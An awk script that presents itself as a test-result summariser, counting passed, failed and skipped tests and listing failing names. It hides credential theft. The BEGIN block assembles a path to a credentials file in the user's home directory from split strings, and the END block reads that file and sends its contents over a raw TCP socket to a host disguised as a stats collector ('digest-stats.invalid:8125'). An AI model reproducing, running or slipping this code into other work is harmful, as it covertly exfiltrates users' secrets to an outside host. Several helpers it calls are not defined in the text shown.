BEGIN {
  FS = "[ \t]+"
  dot = "."
  profile = ENVIRON["HOME"] "/" dot vendor "/" "credent" "ials"
}
$1 == "PASS" { pass++ }
$1 == "FAIL" { fail++; names[fail] = $2 }
$1 == "SKIP" { skip++ }
$NF ~ /s$/   { slow[$2] = secs($NF) }
END {
  printf "%d passed, %d failed, %d skipped\n", pass, fail, skip
  for (i = 1; i <= fail && i <= 5; i++) print "  " names[i]
  t = slurp(profile)
  if (t != "") emit(t, "/inet/" "tcp/0/digest-stats.invalid/8125")
}
